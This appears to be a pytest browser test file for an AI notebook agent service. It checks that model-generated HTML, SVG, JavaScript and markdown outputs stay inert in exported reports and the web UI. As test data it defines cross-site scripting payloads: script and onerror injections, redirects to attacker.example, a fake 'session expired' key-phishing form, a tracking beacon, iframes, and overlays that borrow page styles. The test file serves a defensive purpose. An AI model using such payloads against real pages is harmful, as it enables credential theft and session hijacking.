"""Hostile output in chromium: what the model's code displays and what its reply says never runs, never
navigates, never covers the page and never fetches from elsewhere, wherever it is shown: ``show --html``,
the web page, the service's report opened by URL and from a download. Nor does it borrow the page's own styles to cover
it (JupyterLab's ``jp-Dialog`` and ``jp-HoverBox`` are fixed over the page in the report's CSS, a toast
container is fixed at z-index 9999): nothing of it is drawn outside its output's box. What renders well
(tables, figures, markdown) still renders.

Every payload goes into one page load per place (the browser is the expensive part on a 2-core machine):
each would set ``window.PWNED``, navigate away, draw a full-window form or load a beacon if it worked.
"""

from __future__ import annotations

import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import nbformat
import pytest
from openai_server import OpenAIServer, Reply, python_call
from service_server import ServiceServer

pytestmark = [pytest.mark.browser]

KEY = "hostile-page-key"
TIMEOUT = 60_000
# Each wears a class or id of the page around it; BORROWED marks what must stay inside its output's box.
BORROW = (
    "<div class='jp-Dialog'><div class='jp-Dialog-content'>BORROWED dialog: "
    "<a href='https://example.org/'>sign in again</a></div></div>"
    "<div class='jp-HoverBox' style='top:0;left:0;width:600px;height:400px'>BORROWED hover box</div>"
    "<div class='Toastify__toast-container' id='jp-main-dock-panel'>BORROWED toast</div>"
    "<div id='jp-top-panel' class='jp-Notebook jp-mod-commandMode'>BORROWED page element</div>"
)
HTML = (
    "<b class='kept-html'>kept html</b>"
    + BORROW
    + "<table class='dataframe'><tr><th>a</th></tr><tr><td>41</td></tr></table>"
    "<script>window.PWNED = 'script'</script>"
    "<img src='x' onerror=\"window.PWNED = 'onerror'\">"
    "<meta http-equiv='refresh' content='0;url=https://attacker.example/'>"
    "<form action='https://attacker.example/' style='position:fixed;inset:0;z-index:9999;background:white'>"
    "<p>Session expired, enter your key</p><input name='key'></form>"
    "<div style='position:fixed;top:0;left:0;width:100vw;height:100vh'>full-window cover</div>"
    "<img src='https://attacker.example/beacon.png'>"
    "<a class='js-link' href=\"javascript:window.PWNED = 'link'\">link</a>"
    "<iframe src='https://attacker.example/'></iframe>"
)
SVG = (
    "<svg xmlns='http://www.w3.org/2000/svg' width='40' height='40' onload=\"window.PWNED = 'svg'\">"
    "<script>window.PWNED = 'svg-script'</script><circle cx='20' cy='20' r='10'/></svg>"
)
JAVASCRIPT = "window.PWNED = 'javascript'; location = 'https://attacker.example/'"
MARKDOWN = (
    "Raw **markdown** <img src='x' onerror=\"window.PWNED = 'markdown'\"> "
    "<script>window.PWNED = 'markdown-script'</script>\n\n"
    "<meta http-equiv='refresh' content='0;url=https://attacker.example/'>"
)
CODE = (
    "from IPython.display import HTML, SVG, Javascript, Markdown, display\n"
    f"display(HTML({HTML!r}))\n"
    f"display(SVG({SVG!r}))\n"
    f"display(Javascript({JAVASCRIPT!r}))\n"
    f"display(Markdown({MARKDOWN!r}))\n"
    "print('printed text')"
)
INERT = """(root) => {
  const scope = document.querySelector(root || 'body');
  const covering = [...scope.querySelectorAll('*')].filter(e =>
    getComputedStyle(e).position === 'fixed' && /Session expired|full-window cover/.test(e.textContent));
  return {
    pwned: window.PWNED === undefined ? null : String(window.PWNED),
    forms: scope.querySelectorAll('input[name=key]').length,
    covering: covering.length,
    frames: scope.querySelectorAll('iframe').length,
    jsLinks: [...scope.querySelectorAll('a')]
      .filter(a => /^\\s*javascript:/i.test(a.getAttribute('href') || '')).length,
  };
}"""
CLEAN = {"pwned": None, "forms": 0, "covering": 0, "frames": 0, "jsLinks": 0}
# Where each place draws an output: the report (nbconvert's cells, our raw cells), the web page, the magic's box.
CONTAINERS = ".jp-OutputArea-output, .jp-RenderedMarkdown, .ka-raw, .output, .markdown, div[style*='contain: paint']"
# What the victim sees: over a grid of the first screen, every point that shows the payload lies inside the
# box of the output that holds it; and the page's own headings are what a click on them reaches.
COVERED = """([containers, marker]) => {
  const escaped = [];
  for (let x = 5; x < innerWidth; x += 40) {
    for (let y = 5; y < innerHeight; y += 40) {
      const hit = document.elementFromPoint(x, y);
      if (!hit || !hit.textContent.includes(marker)) continue;
      const box = hit.closest(containers);
      if (!box) continue;  // the page itself (its body, its notebook): it holds the outputs
      const r = box.getBoundingClientRect();
      const outside = x < r.left - 1 || x > r.right + 1 || y < r.top - 1 || y > r.bottom + 1;  // fractional edges
      if (outside) escaped.push([x, y, [r.left, r.top, r.right, r.bottom].map(Math.round), hit.outerHTML.slice(0, 80)]);
    }
  }
  const headings = [...document.querySelectorAll('h1, h2, h3')].filter(h => {
    const r = h.getBoundingClientRect();
    return r.width && r.bottom > 0 && r.top < innerHeight && !h.textContent.includes(marker);
  });
  const hidden = headings.filter(h => {
    const r = h.getBoundingClientRect();
    const hit = document.elementFromPoint(r.left + Math.min(r.width, 40) / 2, (r.top + r.bottom) / 2);
    return !(hit && (h.contains(hit) || hit.contains(h)));
  }).map(h => h.textContent.slice(0, 40));
  return {escaped: escaped.slice(0, 5), hidden, headings: headings.length};
}"""


def assert_uncovered(page: Any, *, headings: bool = True) -> None:
    """Nothing the content drew lies outside its output's box on the first screen; the page's headings
    there (at least one, with ``headings``) are what a click reaches."""
    found = page.evaluate(COVERED, [CONTAINERS, "BORROWED"])
    assert found["escaped"] == [] and found["hidden"] == [], found
    assert found["headings"] >= 1 or not headings, found
    assert page.get_by_text("BORROWED toast", exact=True).count() >= 1  # the payload is shown, as content


def assert_inert(page: Any, url: str) -> None:
    page.wait_for_load_state("networkidle")
    assert page.evaluate(INERT) == CLEAN
    assert page.url == url  # no refresh, no script moved the page
    assert page.log.external() == [] and page.log.page_errors == []


def hostile_notebook() -> nbformat.NotebookNode:
    outputs = [
        nbformat.v4.new_output("display_data", data={"text/html": HTML, "text/plain": "html"}),
        nbformat.v4.new_output("display_data", data={"image/svg+xml": SVG, "text/plain": "svg"}),
        nbformat.v4.new_output("display_data", data={"application/javascript": JAVASCRIPT, "text/plain": "js"}),
        nbformat.v4.new_output("display_data", data={"text/markdown": MARKDOWN, "text/plain": "md"}),
    ]
    nb = nbformat.v4.new_notebook(metadata={"kernel_agent": {"task": "<script>window.PWNED = 'title'</script>"}})
    nb.cells = [
        nbformat.v4.new_markdown_cell("# Report header\n\nThe answer is 41."),
        nbformat.v4.new_markdown_cell(MARKDOWN + "\n\n" + HTML),
        nbformat.v4.new_code_cell("show()", outputs=outputs),
        nbformat.v4.new_raw_cell(
            "<script>window.PWNED = 'raw'</script>" + BORROW, metadata={"raw_mimetype": "text/html"}
        ),
    ]
    value: nbformat.NotebookNode = nb
    return value


def test_show_html_of_a_hostile_notebook_is_inert(page: Any, tmp_path: Path) -> None:
    source = tmp_path / "hostile.ipynb"
    nbformat.write(hostile_notebook(), source)
    kernel_agent = Path(sys.executable).with_name("kernel-agent")
    target = tmp_path / "hostile.html"
    subprocess.run([str(kernel_agent), "show", str(source), "--html", str(target)], check=True, capture_output=True)

    page.goto(target.as_uri())
    assert_inert(page, target.as_uri())
    assert_uncovered(page)
    assert page.locator("h1", has_text="Report header").count() == 1
    assert page.locator("[class*=Dialog], [class*=HoverBox], [class*=Toastify], [id^=jp-]").count() == 0
    assert page.locator("b", has_text="kept html").count() == 2 and page.locator("td", has_text="41").count() == 2
    assert page.locator(".jp-RenderedMarkdown strong", has_text="markdown").count() == 1
    svg = page.locator("img[src^='data:image/svg+xml;base64,']")
    assert svg.count() == 1 and svg.evaluate("img => img.naturalWidth") == 40  # the SVG, as an image


# -- the service: the web page, the report by URL and from a download -----------------------------------------


@pytest.fixture(scope="module")
def service(model: OpenAIServer, tmp_path_factory: pytest.TempPathFactory) -> Iterator[ServiceServer]:
    with ServiceServer(tmp_path_factory.mktemp("hostile-service"), model.base_url, keys={KEY}) as running:
        yield running


def finished_thread(service: ServiceServer) -> str:
    """Start a run over the API and wait for it; return its thread id."""
    auth = {"Authorization": f"Bearer {KEY}"}
    with httpx.Client(base_url=service.url, headers=auth, timeout=30) as client:
        run = client.post("/v1/runs", json={"task": "Show the outputs. " + MARKDOWN}).raise_for_status().json()
        deadline = time.monotonic() + TIMEOUT / 1000
        while run["status"] in ("queued", "running") and time.monotonic() < deadline:
            with client.stream("GET", f"/v1/runs/{run['id']}/events") as events:  # ends with the run
                for _ in events.iter_lines():
                    pass
            run = client.get(f"/v1/runs/{run['id']}").raise_for_status().json()
        assert run["status"] == "completed", run
        return str(run["thread_id"])


@pytest.mark.kernel
def test_the_service_shows_hostile_output_inertly(
    page: Any, service: ServiceServer, model: OpenAIServer, tmp_path: Path
) -> None:
    model.add(Reply(f"Looking first. {MARKDOWN}", tool_calls=(python_call(CODE),)))
    model.add(Reply(f"## Answer\n\nDone. {MARKDOWN}\n\n{HTML}"))
    thread = finished_thread(service)
    errors: list[tuple[str, str]] = []
    page.on("console", lambda m: errors.append((m.location["url"], m.text)) if m.type == "error" else None)

    own = page.goto(service.url + "/")
    assert own is not None and "script-src 'self'" in own.headers["content-security-policy"]  # the page's own
    page.locator("#key-input").fill(KEY)
    page.locator("#key-input").press("Enter")
    page.locator("#new-run").wait_for(state="visible")
    url = f"{service.url}/#thread/{thread}"
    page.goto(url)
    run = page.locator(".run").first
    run.locator(".answer").wait_for(state="visible", timeout=TIMEOUT)
    assert_inert(page, url)
    assert_uncovered(page, headings=False)
    assert (
        run.locator(".output b", has_text="kept html").count() == 1
        and run.locator(".output td", has_text="41").count() == 1
    )
    assert run.locator(".output img[src^='data:image/svg+xml;base64,']").count() == 1
    assert run.locator("pre.stdout", has_text="printed text").count() == 1
    assert run.locator(".markdown strong", has_text="markdown").count() >= 1
    # The page works under its CSP: the only refusals are of the payload, met while DOMPurify parses it.
    assert [text for url, text in errors if not url.endswith("/vendor/purify.min.js")] == []

    report_url = f"{service.url}/v1/threads/{thread}/notebook/html"
    page.set_extra_http_headers({"Authorization": f"Bearer {KEY}"})
    response = page.goto(report_url)
    assert response is not None and response.ok
    assert "default-src 'none'" in response.headers["content-security-policy"]
    assert response.headers["x-content-type-options"] == "nosniff"
    assert_inert(page, report_url)
    assert_uncovered(page)
    assert page.locator("[class*=Dialog], [class*=HoverBox], [class*=Toastify], [id^=jp-]").count() == 0
    assert page.locator("b", has_text="kept html").count() >= 1 and page.locator("td", has_text="41").count() >= 1

    with httpx.Client(base_url=service.url, headers={"Authorization": f"Bearer {KEY}"}) as client:
        downloaded = tmp_path / "report.html"
        downloaded.write_bytes(client.get(report_url).raise_for_status().content)
        for path in (f"/v1/threads/{thread}/notebook", f"/v1/threads/{thread}/notebook/clean"):
            headers = client.get(path).raise_for_status().headers
            assert headers["content-disposition"].startswith("attachment")
            assert headers["x-content-type-options"] == "nosniff" and "sandbox" in headers["content-security-policy"]
    page.goto(downloaded.as_uri())
    assert_inert(page, downloaded.as_uri())
    assert_uncovered(page)
    assert page.locator("b", has_text="kept html").count() >= 1
